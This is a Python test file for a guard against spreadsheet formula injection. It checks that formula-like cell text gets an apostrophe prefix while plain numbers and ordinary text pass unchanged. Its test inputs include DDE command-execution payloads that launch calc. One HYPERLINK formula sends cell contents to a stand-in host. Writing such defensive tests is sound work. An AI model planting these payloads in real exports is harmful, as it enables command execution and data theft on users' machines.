"""Cells that a spreadsheet would run: guarded, all of them and nothing else."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tamis.data.formulas import STARTS, guarded


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("http://x.test?"&A1,"see")',
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "＝1＋1",
        "-",
        "--1",
        "+86 138 0000",
        "-1 =1",
        "-1\n",
    ],
)
def test_what_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "a=b", "七天 = 7", "-1", "+3.5", "-.5", "-1e-05", "-1,234.5", "-12%", "'=1", "1-1"]
)
def test_other_text_and_plain_numbers_stay(text: str) -> None:
    assert guarded(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_every_number_as_python_writes_it_stays(number: float) -> None:
    assert guarded(repr(number)) == repr(number)


@given(st.sampled_from(STARTS).flatmap(lambda start: st.text().map(start.__add__)) | st.text())
def test_nothing_that_is_guarded_begins_as_a_formula_unless_it_is_a_number(text: str) -> None:
    safe = guarded(text)
    assert safe in (text, f"'{text}") and guarded(safe) == safe
    assert not safe.startswith(STARTS) or re.fullmatch(r"[-+][\d.,eE%+-]+", safe)
